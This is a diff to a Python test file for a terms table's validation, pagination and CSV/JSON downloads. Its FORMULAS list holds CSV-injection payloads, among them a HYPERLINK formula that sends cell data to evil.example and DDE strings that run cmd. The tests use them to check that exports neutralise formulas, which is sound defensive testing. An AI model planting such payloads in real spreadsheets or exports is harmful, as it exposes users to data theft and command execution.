@@ -5,6 +5,7 @@ import csv
 import io
 import json
 import re
+from html import unescape
 
 import pytest
 
@@ -80,6 +81,18 @@ def test_the_table_is_paginated(client, make_term):
     assert '<a class="page-link" href="?page=2" aria-current="page">' in html(second)
 
 
+def error_summary(response) -> list[str]:
+    """The problems listed in the page's GOV.UK error summary."""
+    summary = re.search(
+        r'<div class="error-summary"[^>]*>.*?<h2[^>]*>There is a problem</h2>'
+        r"\s*<ul[^>]*>(.*?)</ul>",
+        html(response),
+        re.S,
+    )
+    assert summary, "no error summary"
+    return [unescape(item) for item in re.findall(r"<li>(.*?)</li>", summary[1])]
+
+
 @pytest.mark.parametrize(
     ("params", "message"),
     [
@@ -93,9 +106,19 @@ def test_the_table_is_paginated(client, make_term):
         ({"page": "0"}, "There is no page “0”"),
         ({"page": "two"}, "There is no page “two”"),
         ({"page": "-1"}, "There is no page “-1”"),
+        ({"page": "²"}, "There is no page “²”"),
         ({"page": "1" * 500}, "There is no page “11111111111111111111”"),
+        ({"page": "1" * 5000}, "There is no page “11111111111111111111”"),
         ({"_export": "xlsx"}, "Downloads come as CSV or JSON, not “xlsx”."),
         ({"_export": "csv", "sort": "nope"}, "cannot be sorted by “nope”"),
+        ({"per_page": "-5"}, "A page shows 1 to 100 terms, not “-5”."),
+        ({"per_page": "-1"}, "A page shows 1 to 100 terms, not “-1”."),
+        ({"per_page": "0"}, "A page shows 1 to 100 terms, not “0”."),
+        ({"per_page": "101"}, "not “101”"),
+        ({"per_page": "9" * 5000}, "not “99999999999999999999”"),
+        ({"per_page": "ten"}, "not “ten”"),
+        ({"per_page": ""}, "not “”"),
+        ({"per_page": "-5", "_export": "csv"}, "not “-5”"),
     ],
 )
 def test_bad_table_parameters_get_a_clear_answer(client, sourced, params, message):
@@ -103,11 +126,43 @@ def test_bad_table_parameters_get_a_clear_answer(client, sourced, params, messag
 
     assert response.status_code == 400
     assert response["Content-Type"].startswith("text/html")
-    alert = re.search(
-        r'<div class="alert alert-warning" role="alert">(.*?)</div>', html(response)
-    )
-    assert message in alert[1]
+    assert "<title>Error: " in html(response)
+    assert any(message in problem for problem in error_summary(response))
     # The table is still there, in an order and page it can show.
+    assert len(names(response)) == 4
+
+
+def test_every_bad_table_parameter_is_listed(client, sourced):
+    response = client.get(
+        TABLE, {"sort": "nope", "page": "9", "per_page": "0", "_export": "pdf"}
+    )
+
+    assert response.status_code == 400
+    problems = error_summary(response)
+    assert len(problems) == 4
+    assert problems[0].startswith("A page shows 1 to 100 terms")
+
+
+def test_a_page_size_the_table_can_honour_is_used(client, make_term):
+    for i in range(12):
+        make_term(f"Term {i:02}")
+
+    response = client.get(TABLE, {"per_page": "5", "page": "3"})
+
+    assert response.status_code == 200
+    assert names(response) == ["Term 10", "Term 11"]
+    assert client.get(TABLE, {"per_page": "100"}).status_code == 200
+
+
+@pytest.mark.parametrize(
+    "params",
+    [{"utm_source": "newsletter"}, {"q": "x", "fbclid": "1"}, {"PAGE": "-1"}],
+)
+def test_unknown_table_parameters_are_ignored(client, sourced, params):
+    response = client.get(TABLE, params)
+
+    assert response.status_code == 200
+    assert "There is a problem" not in html(response)
     assert len(names(response)) == 4
 
 
@@ -147,6 +202,42 @@ def test_json_download_parses_and_carries_every_term_across_pages(client, make_t
     assert rows[0]["Term"] == "Term 00"
     assert rows[0]["Definition"] == 'Says "quoted", <b>, and ünïcode.'
     assert rows[0]["Sources"] == 0
+
+
+FORMULAS = [
+    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+@pytest.mark.parametrize("formula", FORMULAS)
+def test_csv_cells_never_start_a_spreadsheet_formula(client, make_term, formula):
+    # OWASP "CSV Injection": a spreadsheet runs a cell starting with one of
+    # these as a formula; a leading quote makes it text.
+    make_term("Offshoring", definition=formula)
+    make_term(formula.strip()[:40], slug="formula-name")
+
+    response = client.get(TABLE, {"_export": "csv"})
+
+    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8"))))
+    for cell in (cell for row in rows for cell in row):
+        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
+    definitions = [row[3] for row in rows[1:]]
+    assert "'" + formula in definitions
+    assert "'" + formula.strip()[:40] in [row[0] for row in rows[1:]]
+
+
+def test_json_download_keeps_text_that_looks_like_a_formula_exactly(client, make_term):
+    for i, formula in enumerate(FORMULAS):
+        make_term(f"Term {i}", definition=formula)
+
+    response = client.get(TABLE, {"_export": "json"})
+
+    assert [row["Definition"] for row in json.loads(response.content)] == FORMULAS
 
 
 def test_the_table_states_its_licence_and_offers_both_downloads(client, sourced):
